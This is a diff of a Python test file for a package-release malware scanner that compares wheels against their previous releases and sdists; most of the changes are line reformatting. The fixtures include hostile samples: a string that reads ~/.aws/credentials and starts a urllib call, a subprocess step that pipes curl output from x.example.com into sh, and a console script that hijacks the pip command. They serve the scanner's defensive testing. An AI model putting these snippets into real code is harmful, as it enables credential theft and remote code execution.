@@ -20,7 +20,9 @@ from interlock.store.facts import FactCache
 
 HARMLESS = "def greet(name):\n    return f'hello {name}'\n"
 # Talks to the network at import in both releases: the package's long-standing behaviour.
-SPAWNS_AT_IMPORT = "import urllib.request\nLATEST = urllib.request.urlopen('https://example.com/latest').read()\n" + HARMLESS
+SPAWNS_AT_IMPORT = (
+    "import urllib.request\nLATEST = urllib.request.urlopen('https://example.com/latest').read()\n" + HARMLESS
+)
 STEALER = (
     "import os, urllib.request\n"
     "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
@@ -32,7 +34,7 @@ def release(tmp_path: Path, version: str, files: dict[str, str], name: str = "ac
     return write(tmp_path, wheel_filename(name, version), wheel_bytes(name, version, files))
 
 
-def diff(old: Path, new: Path, facts: FactCache | None = None):  # noqa: ANN201 - a ScanResult
+def diff(old: Path, new: Path, facts: FactCache | None = None):
     read = lambda path: read_artifact_bytes(path.name, path.read_bytes())  # noqa: E731
     return diff_artifacts(read(old), read(new), target=str(new), previous_label=str(old), facts=facts)
 
@@ -77,7 +79,9 @@ def test_code_injected_into_an_existing_file_is_new_with_its_added_lines(tmp_pat
 
 
 def test_code_that_moved_to_import_time_is_new(tmp_path: Path) -> None:
-    body = "import subprocess\n\ndef update():\n    subprocess.run(['sh', '-c', 'curl -s https://x.example.com/i | sh'])\n"
+    body = (
+        "import subprocess\n\ndef update():\n    subprocess.run(['sh', '-c', 'curl -s https://x.example.com/i | sh'])\n"
+    )
     old = release(tmp_path, "1.0", {"acme/__init__.py": body})
     new = release(tmp_path, "1.1", {"acme/__init__.py": body + "\nupdate()\n"})
     result = diff(old, new)
@@ -97,10 +101,16 @@ def test_a_critical_finding_counts_even_when_the_previous_release_had_it(tmp_pat
 def test_a_console_script_named_pip_appearing_in_a_release_is_critical(tmp_path: Path) -> None:
     old = write(tmp_path, wheel_filename("acme", "1.0"), wheel_bytes("acme", "1.0", {"acme/__init__.py": HARMLESS}))
     hijack = "[console_scripts]\npip = acme._pip:main\n"
-    new = write(tmp_path, wheel_filename("acme", "1.1"), wheel_bytes("acme", "1.1", {"acme/__init__.py": HARMLESS}, entry_points=hijack))
+    new = write(
+        tmp_path,
+        wheel_filename("acme", "1.1"),
+        wheel_bytes("acme", "1.1", {"acme/__init__.py": HARMLESS}, entry_points=hijack),
+    )
     result = diff(old, new)
     assert result.verdict.value == "malicious"
-    assert result.findings[0].rule == "entrypoint-shadows-command" and "new in this release" in result.findings[0].message
+    assert (
+        result.findings[0].rule == "entrypoint-shadows-command" and "new in this release" in result.findings[0].message
+    )
 
 
 # -- releases that cannot be compared -----------------------------------------------------------
@@ -127,7 +137,9 @@ def test_an_old_release_newer_than_the_new_one_is_refused(tmp_path: Path) -> Non
 
 
 @pytest.mark.parametrize("case", ["same-file", "unrelated", "swapped"])
-def test_the_cli_explains_why_two_releases_cannot_be_compared(tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_cli_explains_why_two_releases_cannot_be_compared(
+    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
     new = {
         "same-file": old,
@@ -159,7 +171,9 @@ def test_json_output_has_previous_and_marks_each_finding(tmp_path: Path, capsys:
     assert "acme_greeter_init.pth" in result["changes"]["added"]
 
 
-def test_text_output_names_the_previous_release_and_shows_added_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_text_output_names_the_previous_release_and_shows_added_lines(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS})
     new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS + STEALER})
     status, out, _ = run(capsys, "diff", str(old), str(new))
@@ -180,14 +194,16 @@ def test_text_output_names_removed_files(tmp_path: Path, capsys: pytest.CaptureF
 # -- only what changed is analysed -------------------------------------------------------------
 
 
-def test_a_warm_fact_cache_analyses_only_the_files_that_changed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_warm_fact_cache_analyses_only_the_files_that_changed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     files = {f"acme/mod{number}.py": HARMLESS + f"N = {number}\n" for number in range(20)}
     old = release(tmp_path, "1.0", {"acme/__init__.py": "", **files})
     new = release(tmp_path, "1.1", {"acme/__init__.py": "", **files, "acme/mod3.py": HARMLESS + STEALER})
     analysed: list[str] = []
     real = parallel._analyse
 
-    def counting(artifact, job):  # noqa: ANN001, ANN202 - same signature as the real one
+    def counting(artifact, job):
         analysed.append(job[0])
         return real(artifact, job)
 
@@ -198,7 +214,9 @@ def test_a_warm_fact_cache_analyses_only_the_files_that_changed(tmp_path: Path, 
     analysed.clear()
     second = diff(old, new, facts)
     assert analysed == []
-    assert [(f.rule, f.path, f.line, f.new) for f in second.findings] == [(f.rule, f.path, f.line, f.new) for f in first.findings]
+    assert [(f.rule, f.path, f.line, f.new) for f in second.findings] == [
+        (f.rule, f.path, f.line, f.new) for f in first.findings
+    ]
 
 
 # -- history: scan NAME==VERSION against the previous release on the index ------------------------
@@ -210,7 +228,9 @@ def index_with_history(served_demo: str, monkeypatch: pytest.MonkeyPatch) -> str
     return served_demo
 
 
-def test_scan_by_name_compares_with_the_previous_release(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_scan_by_name_compares_with_the_previous_release(
+    index_with_history: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1")
     result = json.loads(out)["results"][0]
     assert status == 1 and result["verdict"] == "malicious"
@@ -226,13 +246,17 @@ def test_a_first_release_says_it_has_no_history(index_with_history: str, capsys:
 
 
 def test_no_history_judges_the_release_alone(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
-    status, out, _ = run(capsys, "scan", "--no-history", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1")
+    status, out, _ = run(
+        capsys, "scan", "--no-history", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1"
+    )
     result = json.loads(out)["results"][0]
     assert status == 1 and "previous" not in result and "history" not in result
     assert all("new" not in finding for finding in result["findings"])
 
 
-def test_a_local_file_with_the_index_down_is_judged_alone_and_says_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_local_file_with_the_index_down_is_judged_alone_and_says_why(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     import socket
 
     monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
@@ -240,7 +264,16 @@ def test_a_local_file_with_the_index_down_is_judged_alone_and_says_why(tmp_path:
         probe.bind(("127.0.0.1", 0))
         port = probe.getsockname()[1]
     genuine, trojaned = build_demo_releases(tmp_path)
-    status, out, err = run(capsys, "scan", "--index-url", f"http://127.0.0.1:{port}/simple", "--format", "json", str(trojaned), str(genuine))
+    status, out, err = run(
+        capsys,
+        "scan",
+        "--index-url",
+        f"http://127.0.0.1:{port}/simple",
+        "--format",
+        "json",
+        str(trojaned),
+        str(genuine),
+    )
     results = json.loads(out)["results"]
     assert status == 1 and [r["verdict"] for r in results] == ["malicious", "clean"]
     assert all(r["history"].startswith("history unavailable") for r in results) and "Traceback" not in err
@@ -252,16 +285,30 @@ def test_diff_by_name_with_the_index_down_is_an_error_not_a_traceback(capsys: py
     with socket.socket() as probe:  # a port nothing listens on
         probe.bind(("127.0.0.1", 0))
         port = probe.getsockname()[1]
-    status, out, err = run(capsys, "diff", "--index-url", f"http://127.0.0.1:{port}/simple", "--format", "json", "acme==1.0", "acme==1.1")
+    status, out, err = run(
+        capsys, "diff", "--index-url", f"http://127.0.0.1:{port}/simple", "--format", "json", "acme==1.0", "acme==1.1"
+    )
     assert status == 3 and json.loads(out)["results"][0]["verdict"] == "error"
     assert "Traceback" not in err
 
 
 def test_diff_by_name_fetches_both_releases(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
-    status, out, _ = run(capsys, "diff", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.0", "acme-greeter==1.0.1")
+    status, out, _ = run(
+        capsys,
+        "diff",
+        "--index-url",
+        index_with_history,
+        "--format",
+        "json",
+        "acme-greeter==1.0.0",
+        "acme-greeter==1.0.1",
+    )
     result = json.loads(out)["results"][0]
     assert status == 1 and result["verdict"] == "malicious"
-    assert result["previous"]["target"] == "acme-greeter==1.0.0" and result["findings"][0]["path"] == "acme_greeter_init.pth"
+    assert (
+        result["previous"]["target"] == "acme-greeter==1.0.0"
+        and result["findings"][0]["path"] == "acme_greeter_init.pth"
+    )
 
 
 # -- what the metadata says changed -----------------------------------------------------------------
@@ -291,9 +338,14 @@ def _with_record(path: Path) -> Path:
     import zipfile
 
     with zipfile.ZipFile(path) as archive:
-        members = {info.filename: archive.read(info) for info in archive.infolist() if not info.filename.endswith("/RECORD")}
+        members = {
+            info.filename: archive.read(info) for info in archive.infolist() if not info.filename.endswith("/RECORD")
+        }
     record_path = next(name for name in members if name.endswith("/METADATA")).rsplit("/", 1)[0] + "/RECORD"
-    lines = [f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}" for name, data in members.items()]
+    lines = [
+        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
+        for name, data in members.items()
+    ]
     with zipfile.ZipFile(path, "w") as archive:
         for name, data in members.items():
             archive.writestr(name, data)
@@ -301,7 +353,7 @@ def _with_record(path: Path) -> Path:
     return path
 
 
-def new_rules(result) -> list[str]:  # noqa: ANN001 - a ScanResult
+def new_rules(result) -> list[str]:
     return [f.rule for f in result.findings if f.new]
 
 
@@ -312,7 +364,9 @@ def test_a_version_far_beyond_the_release_line_is_high(tmp_path: Path) -> None:
     assert new_rules(result) == ["version-jump"] and result.verdict.value == "suspicious"
     ordinary = new_rules(diff(old, release_with_metadata(tmp_path, "2.0.0", "")))
     assert "version-jump" not in ordinary and ordinary == []  # an ordinary major release
-    calendar = new_rules(diff(release_with_metadata(tmp_path, "20251230", ""), release_with_metadata(tmp_path, "20260107", "")))
+    calendar = new_rules(
+        diff(release_with_metadata(tmp_path, "20251230", ""), release_with_metadata(tmp_path, "20260107", ""))
+    )
     assert "version-jump" not in calendar and calendar == []  # calendar versioning
 
 
@@ -323,13 +377,21 @@ def test_a_dependency_added_in_a_patch_release_is_reported(tmp_path: Path) -> No
     assert new_rules(diff(old, patch)) == ["dependency-added-in-patch"]
     assert "colorsys-helper" in diff(old, patch).findings[0].message
     in_minor = new_rules(diff(old, minor))
-    assert "dependency-added-in-patch" not in in_minor and in_minor == []  # new dependencies in a minor release are ordinary
+    assert (
+        "dependency-added-in-patch" not in in_minor and in_minor == []
+    )  # new dependencies in a minor release are ordinary
 
 
 def test_new_author_domain_and_project_urls_are_reported(tmp_path: Path) -> None:
-    old = release_with_metadata(tmp_path, "1.0.0", "Author-email: Ann <ann@acme.example>\nProject-URL: Source, https://git.example/acme/acme\n")
-    same = release_with_metadata(tmp_path, "1.0.1", "Author-email: Bob <bob@acme.example>\nProject-URL: Source, https://git.example/acme/acme\n")
-    taken = release_with_metadata(tmp_path, "1.0.2", "Author-email: X <x@mail.example>\nProject-URL: Source, https://git.example/acrne/acme\n")
+    old = release_with_metadata(
+        tmp_path, "1.0.0", "Author-email: Ann <ann@acme.example>\nProject-URL: Source, https://git.example/acme/acme\n"
+    )
+    same = release_with_metadata(
+        tmp_path, "1.0.1", "Author-email: Bob <bob@acme.example>\nProject-URL: Source, https://git.example/acme/acme\n"
+    )
+    taken = release_with_metadata(
+        tmp_path, "1.0.2", "Author-email: X <x@mail.example>\nProject-URL: Source, https://git.example/acrne/acme\n"
+    )
     unchanged = new_rules(diff(old, same))  # another author of the same domain, same URL
     assert "maintainer-changed" not in unchanged and "project-urls-changed" not in unchanged and unchanged == []
     assert sorted(new_rules(diff(old, taken))) == ["maintainer-changed", "project-urls-changed"]
@@ -338,13 +400,20 @@ def test_new_author_domain_and_project_urls_are_reported(tmp_path: Path) -> None
 # -- a wheel against the sdist published with it -----------------------------------------------------
 
 
-def test_a_pth_in_the_wheel_that_the_sdist_lacks_is_high(index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: ANN001
+def test_a_pth_in_the_wheel_that_the_sdist_lacks_is_high(
+    index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     from interlock.demo.wheel import sdist_bytes, sdist_filename
 
     monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
     source = {"acme/__init__.py": HARMLESS}
-    wheel = wheel_bytes("acme", "1.0", {**source, "acme_init.pth": "import os; os.getpid()\n", "acme/_version.py": "v = '1.0'\n"})
-    index.json_project("acme", {wheel_filename("acme", "1.0"): wheel, sdist_filename("acme", "1.0"): sdist_bytes("acme", "1.0", source)})
+    wheel = wheel_bytes(
+        "acme", "1.0", {**source, "acme_init.pth": "import os; os.getpid()\n", "acme/_version.py": "v = '1.0'\n"}
+    )
+    index.json_project(
+        "acme",
+        {wheel_filename("acme", "1.0"): wheel, sdist_filename("acme", "1.0"): sdist_bytes("acme", "1.0", source)},
+    )
     status, out, _ = run(capsys, "scan", "--index-url", index.simple, "--format", "json", "acme==1.0")
     findings = json.loads(out)["results"][0]["findings"]
     flagged = [(f["rule"], f["severity"], f["path"]) for f in findings if f["rule"] == "wheel-not-from-sdist"]
@@ -352,9 +421,12 @@ def test_a_pth_in_the_wheel_that_the_sdist_lacks_is_high(index, tmp_path: Path, 
     assert status == 1
 
 
-def test_a_wheel_built_from_its_sdist_has_nothing_the_sdist_lacks(index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: ANN001
-    from interlock.demo.wheel import sdist_bytes, sdist_filename
+def test_a_wheel_built_from_its_sdist_has_nothing_the_sdist_lacks(
+    index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     from tests.builders import NSPKG
+
+    from interlock.demo.wheel import sdist_bytes, sdist_filename
 
     monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
     source = {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS}
@@ -367,14 +439,16 @@ def test_a_wheel_built_from_its_sdist_has_nothing_the_sdist_lacks(index, tmp_pat
     assert status == 0 and result["verdict"] == "clean"
 
 
-def test_a_local_file_of_a_project_the_index_lacks_says_so(index_with_history: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_local_file_of_a_project_the_index_lacks_says_so(
+    index_with_history: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     private = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS}, name="acme-internal")
     status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", str(private))
     result = json.loads(out)["results"][0]
     assert status == 0 and result["verdict"] == "clean" and "not on the index" in result["history"]
 
 
-def test_diff_by_name_with_an_index_answering_garbage_is_an_error(index, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: ANN001
+def test_diff_by_name_with_an_index_answering_garbage_is_an_error(index, capsys: pytest.CaptureFixture[str]) -> None:
     from tests.fake_index import Reply
 
     index.route("/simple/acme/", Reply(b"\x00\xff<html><a href=", content_type="application/vnd.pypi.simple.v1+json"))
